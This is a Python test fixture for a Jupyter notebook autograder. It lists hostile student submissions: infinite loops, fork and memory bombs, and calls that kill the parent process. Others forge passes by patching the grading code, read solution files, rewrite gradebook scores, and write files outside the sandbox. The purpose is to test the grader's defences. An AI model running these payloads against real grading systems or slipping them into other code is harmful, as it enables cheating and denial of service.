"""Hostile and broken submissions of ``hw/part1.ipynb`` (see fixture_course.py).

Each attack is one student's ``part1.ipynb``: ``add`` right (2 points, graded normally unless the
attack breaks the whole notebook) and the ``mul`` solution cell replaced by the attack (3 points),
or the notebook itself mangled. ``expect`` gives the scores of test_add / test_mul, ``reason`` a
regular expression the student's row must match. ``{...}`` fields are filled in by the test:
``{gradebook}`` the course's gradebook file, ``{course}`` the course folder, ``{outside}`` a folder
outside the course, ``{port}`` a TCP server on 127.0.0.1 outside the sandbox, ``{tag}`` a unique
name.
"""
from __future__ import annotations

import json

WRONG_MUL = "def mul(a, b):\n    return a + b\n"
RIGHT_MUL = "def mul(a, b):\n    return a * b\n"

# name -> (code of the mul cell, {test_add, test_mul}, reason regex)
CODE_ATTACKS = {
    "infinite_loop": ("while True:\n    pass\n" + RIGHT_MUL, (2, 0), r"CellTimeoutError"),
    "unkillable_loop": ("import time\nwhile True:\n    try:\n        time.sleep(0.05)\n"
                        "    except KeyboardInterrupt:\n        pass\n" + RIGHT_MUL, (2, 0),
                        r"KernelUnresponsive: .*did not respond to the interrupt"),
    "deep_recursion": ("import sys\nsys.setrecursionlimit(10**7)\ndef f(n):\n    return f(n + 1) + 1\n"
                       "f(0)\n" + RIGHT_MUL, (2, 0),
                       r"KernelDied|RecursionError|MemoryError|CellTimeoutError|KernelUnresponsive"),
    "memory_bomb": ("blocks = []\nwhile True:\n    blocks.append(bytearray(10**8))\n" + RIGHT_MUL,
                    (2, 0), r"MemoryError|KernelDied"),
    "fork_bomb": ("import os\nwhile True:\n    os.fork()\n" + RIGHT_MUL, (2, 0),
                  r"BlockingIOError|KernelDied|CellTimeoutError|KernelUnresponsive"),
    "sys_exit": ("import sys\nsys.exit(3)\n" + RIGHT_MUL, (2, 0), r"SystemExit"),
    "os_exit": ("import os\nos._exit(0)\n" + RIGHT_MUL, (2, 0), r"KernelDied"),
    "segfault": ("import ctypes\nctypes.string_at(0)\n" + RIGHT_MUL, (2, 0), r"KernelDied"),
    "kill_parent": ("import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n"
                    "os.kill(-1, signal.SIGKILL)\n" + RIGHT_MUL, (2, 0),
                    r"KernelDied|PermissionError|ProcessLookupError"),
    "keyboard_interrupt": ("import os, signal\nos.kill(os.getpid(), signal.SIGINT)\n"
                           "raise KeyboardInterrupt\n" + RIGHT_MUL, (2, 0), r"KeyboardInterrupt"),
    "output_flood": ("while True:\n    print('x' * 10000)\n" + RIGHT_MUL, (2, 0),
                     r"OutputLimitExceeded"),
    # --- forging a pass with a wrong mul
    "forge_custom_exc": ("ip = get_ipython()\nip.set_custom_exc((BaseException,), "
                         "lambda *a, **k: None)\n" + WRONG_MUL, (2, 0), r"test_mul: GradingError"),
    "forge_silent_traceback": ("ip = get_ipython()\nip.showtraceback = lambda *a, **k: None\n"
                               "ip._showtraceback = lambda *a, **k: None\n"
                               "import sys\nsys.stderr = open('/dev/null', 'w')\n" + WRONG_MUL,
                               (2, 0), r"test_mul: GradingError"),
    "forge_numpy_compare": ("import numpy as np\nnp.allclose = lambda *a, **k: True\n"
                            "np.isclose = lambda *a, **k: True\nnp.array_equal = lambda *a, **k: True\n"
                            "np.testing.assert_allclose = lambda *a, **k: None\n"
                            "np.abs = np.zeros_like\n" + WRONG_MUL, (2, 0),
                            r"test_mul: GradingError"),
    "forge_python_compare": ("import builtins, math, operator\nbuiltins.all = lambda *a: True\n"
                             "builtins.max = lambda *a, **k: 0.0\nmath.isclose = lambda *a, **k: True\n"
                             "operator.eq = lambda *a: True\n"
                             "builtins.AssertionError = type('Quiet', (Exception,), {})\n" + WRONG_MUL,
                             (2, 0), r"test_mul: GradingError"),
    "forge_grading_noop": ("import nnkit.grading as g, nnkit.grading.checks as c\n"
                           "def fake(part, *a, **k):\n    print(part + ': passed (2 cases)')\n"
                           "g.check_function = c.check_function = fake\n" + WRONG_MUL, (2, 0),
                           r"test_mul: GradingError"),
    "forge_grading_record": ("import numpy as np, nnkit.grading.checks as c\n_orig = c._record\n"
                             "def fake(d, spec, results):\n"
                             "    for r in results:\n"
                             "        r['outputs'] = [np.ones((2, 2))]; r['error'] = None\n"
                             "    _orig(d, spec, results)\n"
                             "c._record = fake\nc._judge = lambda *a, **k: (True, 'passed', '')\n"
                             + WRONG_MUL, (2, 0), r"test_mul: GradingError"),
    "forge_grading_reference": ("import nnkit.grading.checks as c, nnkit.grading as g\n_orig = c.check_function\n"
                                "def honest_looking(part, fn, *, reference, **kw):\n"
                                "    return _orig(part, c.resolve(reference), reference=reference, **kw)\n"
                                "g.check_function = c.check_function = honest_looking\n" + WRONG_MUL,
                                (2, 0), r"touches the grading code"),
    "forge_equal_to_anything": ("class Anything:\n    def __eq__(self, other): return True\n"
                                "    def __ne__(self, other): return False\n"
                                "    def __sub__(self, other): return 0.0\n    __rsub__ = __sub__\n"
                                "    def __abs__(self): return 0.0\n    def __lt__(self, o): return True\n"
                                "    __le__ = __lt__\n"
                                "def mul(a, b):\n    return Anything()\n", (2, 0),
                                r"test_mul: GradingError"),
    "forge_fake_output": ("print('test_mul: passed (2 cases)')\nprint('[grader] mul: passed (2 cases)')\n"
                          "ip = get_ipython()\nip.events.register('post_run_cell', "
                          "lambda r: print('mul: passed (2 cases)'))\n" + WRONG_MUL, (2, 0),
                          r"test_mul: GradingError"),
    "forge_kill_kernel_early": (WRONG_MUL + "import os\nos.kill(os.getpid(), 9)\n", (2, 0),
                                r"KernelDied"),
    # --- escaping the sandbox
    "read_solutions": ("import glob, os\nfound = [p for pat in ('{course}/solutions/**/*.ipynb', "
                       "'/*/*/solutions/*/*.ipynb', '/*/*/*/solutions/*/*.ipynb', '../../../solutions/*/*.ipynb', '/*/solutions/*/*.ipynb') for p in "
                       "glob.glob(pat, recursive=True)]\nprint('solutions found:', found)\n"
                       "if found:\n    import json\n    nb = json.load(open(found[0]))\n"
                       "    src = [c['source'] for c in nb['cells'] if 'def mul' in ''.join(c['source'])]\n"
                       "    exec(''.join(src[0]).replace('### BEGIN SOLUTION', '').replace("
                       "'### END SOLUTION', ''))\nelse:\n" + "    " + WRONG_MUL.replace("\n    ", "\n        "),
                       (2, 0), r"test_mul: GradingError"),
    "write_gradebook": ("import sqlite3, glob\nfor p in ['{gradebook}', '../../../gradebook.db'] + "
                        "glob.glob('/*/*/gradebook.db') + glob.glob('/*/*/*/gradebook.db'):\n    try:\n        db = sqlite3.connect(p)\n"
                        "        db.execute('UPDATE grade SET auto_score = 100')\n        db.commit()\n"
                        "        print('wrote', p)\n    except Exception as e:\n        print('denied', p, e)\n"
                        + WRONG_MUL, (2, 0), r"test_mul: GradingError"),
    "connect_localhost": ("import socket\nfor host in ('127.0.0.1', 'localhost'):\n    try:\n"
                          "        s = socket.create_connection((host, {port}), timeout=2)\n"
                          "        s.sendall(b'stolen answers please')\n        print('connected', host)\n"
                          "    except OSError as e:\n        print('no network', host, e)\n" + WRONG_MUL,
                          (2, 0), r"test_mul: GradingError"),
    "write_outside": ("import os\nfor p in ['{outside}/pwned.txt', '{course}/solutions/hw/part1.ipynb', "
                      "'{course}/nbgrader_config.py', '/tmp/{tag}', os.path.expanduser('~/.{tag}'), "
                      "'../../../nbgrader_config.py']:\n    try:\n        open(p, 'w').write('pwned')\n"
                      "        print('wrote', p)\n    except OSError as e:\n        print('denied', p, e)\n"
                      + RIGHT_MUL, (2, 3), r""),
}


def _cells(nb):
    return nb["cells"]


def _gid(cell):
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def edit_locked_test(nb):
    for c in _cells(nb):
        if _gid(c) == "test_mul":
            c["source"] = "print('mul: passed')"
        if _gid(c) == "mul":
            c["source"] = WRONG_MUL
    return nb


def delete_test(nb):
    nb["cells"] = [c for c in _cells(nb) if _gid(c) != "test_mul"]
    for c in _cells(nb):
        if _gid(c) == "mul":
            c["source"] = WRONG_MUL
    return nb


def change_cell_type(nb):
    for c in _cells(nb):
        if _gid(c) == "test_mul":
            c["cell_type"] = "markdown"
            c.pop("outputs", None)
            c.pop("execution_count", None)
        if _gid(c) == "mul":
            c["source"] = WRONG_MUL
    return nb


def duplicate_ids(nb):
    cells = _cells(nb)
    i = next(k for k, c in enumerate(cells) if _gid(c) == "test_mul")
    fake = json.loads(json.dumps(cells[i]))
    fake["source"] = "print('mul: passed')"
    fake["id"] = "fake-test-mul"
    j = next(k for k, c in enumerate(cells) if _gid(c) == "mul")
    cells[j]["source"] = WRONG_MUL
    cells.insert(j, fake)
    return nb


def strip_metadata(nb):
    for c in _cells(nb):
        c.get("metadata", {}).pop("nbgrader", None)
        if "def mul" in "".join(c.get("source", "")):
            c["source"] = RIGHT_MUL
    return nb


# name -> (transform of the notebook dict | raw bytes, {test_add, test_mul}, reason regex)
NOTEBOOK_ATTACKS = {
    "edited_locked_test": (edit_locked_test, (2, 0), r"test_mul: GradingError"),
    "deleted_test": (delete_test, (2, 0), r"graded cell\(s\) missing: test_mul"),
    "changed_cell_type": (change_cell_type, (2, 0), r"test_mul: GradingError"),
    "duplicated_ids": (duplicate_ids, (2, 0), r"test_mul: GradingError"),
    "stripped_metadata": (strip_metadata, (0, 0), r"graded cell\(s\) missing: test_add, test_mul"),
    "invalid_json": (b'{"cells": [ {"cell_type": "code", "source": "def add(a, b)', (0, 0),
                     r"invalid JSON"),
    "empty_file": (b"", (0, 0), r"empty file"),
    "not_a_notebook": (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10" + bytes(range(256)),
                       (0, 0), r"not a notebook"),
}
